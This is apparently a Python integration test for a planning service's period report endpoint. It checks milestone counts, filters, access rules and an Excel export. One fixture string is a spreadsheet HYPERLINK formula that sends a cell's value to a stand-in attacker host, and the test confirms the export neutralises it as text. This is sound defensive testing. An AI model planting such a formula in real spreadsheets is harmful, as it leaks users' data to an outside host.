"""A period report whose counts match a hand-built fixture: 3 key tasks, 6 sub-items, one milestone each due in the
period (and one later), completed early / on time / late or lagging with objective, subjective or no reason."""
from datetime import timedelta
from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import text

from bihuan_execution.testing import DAY0, SCOPE, headers, publish_targets, snapshot
from bihuan_shared.contracts.planning import TargetCancelled
from bihuan_shared.db import make_engine
from bihuan_shared.events import new_event
from bihuan_shared.testing.services import eventually, publish_envelopes

A, B, C = "U-FGW", "U-JW", "U-JTW"
IN, LATER = DAY0 + timedelta(days=10), DAY0 + timedelta(days=60)


def _fixture() -> dict[str, dict]:
    k1 = snapshot("K1", A, [LATER])
    k2 = snapshot("K2", B, [LATER])
    t = {"K1": k1, "K2": k2,
         "S1a": snapshot("K1-1", A, [IN, LATER], parent_id=k1["target_id"], leader="L-WANG"),
         "S1b": snapshot("K1-2", B, [IN, LATER], parent_id=k1["target_id"], responsible=(A,)),
         "S2a": snapshot("K2-1", B, [IN, LATER], parent_id=k2["target_id"], category="major_project"),
         "S2b": snapshot("K2-2", B, [IN, LATER], parent_id=k2["target_id"], title="徐家汇体育公园改造"),
         "S2c": snapshot("K2-3", C, [IN, LATER], parent_id=k2["target_id"]),
         "K3": snapshot("K3", C, [IN, LATER]),
         "gone": snapshot("K4", A, [IN])}
    return t


LEAK = '=HYPERLINK("http://evil.example/leak?d="&B2,"详情")'


async def test_period_report_counts_match_the_fixture_as_of_any_date(api, settings):
    settings.today = DAY0
    t = _fixture()
    await publish_targets(api, settings, list(t.values()))

    async def act(day: int, key: str, unit: str, path: str, body: dict):
        settings.today = DAY0 + timedelta(days=day)
        m = t[key]["milestones"][0]["milestone_id"]
        r = await api.post(f"/api/v1/targets/{t[key]['target_id']}/milestones/{m}/{path}", json=body,
                           headers=headers(settings, "unit_reporter", unit))
        assert r.status_code == 201, r.text

    await act(5, "S1a", A, "progress", {"actual_value": 1})                          # early
    await act(10, "S1b", A, "progress", {"actual_value": 1})                         # on time (responsible unit)
    await act(11, "S2b", B, "lag-explanations", {"reason_kind": "objective", "reason_category": "weather",
                                                  "explanation": "连续暴雨停工", "recovery_plan": "增加班组"})
    await act(15, "S2a", B, "progress", {"actual_value": 1})                         # late
    await act(20, "S2c", C, "lag-explanations", {"reason_kind": "subjective", "explanation": LEAK})
    # K3 lags with no explanation; K4 is cancelled and must not count.
    await _cancel(settings, t["gone"])
    settings.today = DAY0 + timedelta(days=30)
    office = headers(settings, "target_office")

    r = await api.get("/api/v1/reports/period", headers=office)
    assert r.status_code == 200, r.text
    rep = r.json()
    assert rep["as_of"] == (DAY0 + timedelta(days=30)).isoformat()
    assert {k: rep[k] for k in ("key_tasks", "sub_items", "milestones_due", "met", "met_early", "met_on_time",
                                "met_late", "lagging", "lagging_objective", "lagging_subjective",
                                "lagging_unexplained", "not_yet_due")} == {
        "key_tasks": 3, "sub_items": 6, "milestones_due": 6, "met": 3, "met_early": 1, "met_on_time": 1,
        "met_late": 1, "lagging": 3, "lagging_objective": 1, "lagging_subjective": 1, "lagging_unexplained": 1,
        "not_yet_due": 8}
    assert rep["met_percent"] == 50.0
    assert rep["headline"] == "3 项重点工作、6 个子项目：3 个节点完成（50%），3 个滞后（客观 1 个、主观 1 个、未说明 1 个）"
    lag = {i["target_code"]: i for i in rep["lagging_items"]}
    assert set(lag) == {"K2-2", "K2-3", "K3"}
    assert (lag["K2-2"]["reason_category"], lag["K2-2"]["days_late"], lag["K2-2"]["target_title"]) == \
        ("weather", 20, "徐家汇体育公园改造")
    assert lag["K3"]["reason_kind"] is None

    # As of day 12: S2a not yet done, S2c not yet explained.
    rep = (await api.get("/api/v1/reports/period", params={"as_of": (DAY0 + timedelta(days=12)).isoformat()},
                         headers=office)).json()
    assert (rep["met"], rep["lagging"], rep["lagging_objective"], rep["lagging_subjective"],
            rep["lagging_unexplained"]) == (2, 4, 1, 0, 3)
    # Before anything was due: nothing lagging, nothing met.
    rep = (await api.get("/api/v1/reports/period", params={"as_of": DAY0.isoformat()}, headers=office)).json()
    assert (rep["milestones_due"], rep["met_percent"], rep["not_yet_due"]) == (0, 100.0, 14)

    # For a unit (lead or responsible): A leads K1, K1-1 and is responsible for K1-2.
    rep = (await api.get("/api/v1/reports/period", params={"unit": A}, headers=office)).json()
    assert (rep["key_tasks"], rep["sub_items"], rep["met"], rep["lagging"]) == (1, 2, 2, 0)
    mine = (await api.get("/api/v1/reports/period", headers=headers(settings, "unit_reporter", C))).json()
    assert (mine["unit"], mine["key_tasks"], mine["sub_items"], mine["lagging"]) == (C, 2, 2, 2)
    r = await api.get("/api/v1/reports/period", params={"unit": A}, headers=headers(settings, "unit_reporter", C))
    assert r.status_code == 403
    assert (await api.get("/api/v1/reports/period", params={"leader": "L-WANG"}, headers=office)).json()["met"] == 1
    assert (await api.get("/api/v1/reports/period", params={"category": "major_project"},
                          headers=office)).json()["met_late"] == 1
    r = await api.get("/api/v1/reports/period", params={"as_of": "2027-02-30"}, headers=office)
    assert r.status_code == 422

    r = await api.get("/api/v1/reports/period.xlsx", headers=office)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(r.content))
    assert wb["汇总"]["A1"].value.startswith("3 项重点工作、6 个子项目")
    rows = list(wb["滞后清单"].iter_rows(min_row=2, values_only=True))
    assert sorted((r[0], r[9]) for r in rows) == [("K2-2", "客观"), ("K2-3", "主观"), ("K3", "未说明")]
    # Issue 12 #8: a unit's text that starts like a formula is exported as text, never as a live formula.
    cells = [c for row in wb["滞后清单"].iter_rows() for c in row]
    assert [c for c in cells if c.data_type == "f"] == []
    (leak,) = [c for c in cells if c.value == LEAK]
    assert leak.data_type == "s" and leak.quotePrefix


async def _cancel(settings, snap: dict) -> None:
    await publish_envelopes(settings.amqp_url, [new_event(
        TargetCancelled(target_id=snap["target_id"], version=2, adjustment_id="adj-1", reason="撤销"),
        scope=SCOPE, aggregate_id=snap["target_id"], sequence=2)])
    engine = make_engine(settings.database_url, 1)

    async def cancelled():
        async with engine.connect() as conn:
            assert await conn.scalar(text("SELECT cancelled FROM targets WHERE id = :i"), {"i": snap["target_id"]})
    try:
        await eventually(cancelled)
    finally:
        await engine.dispose()
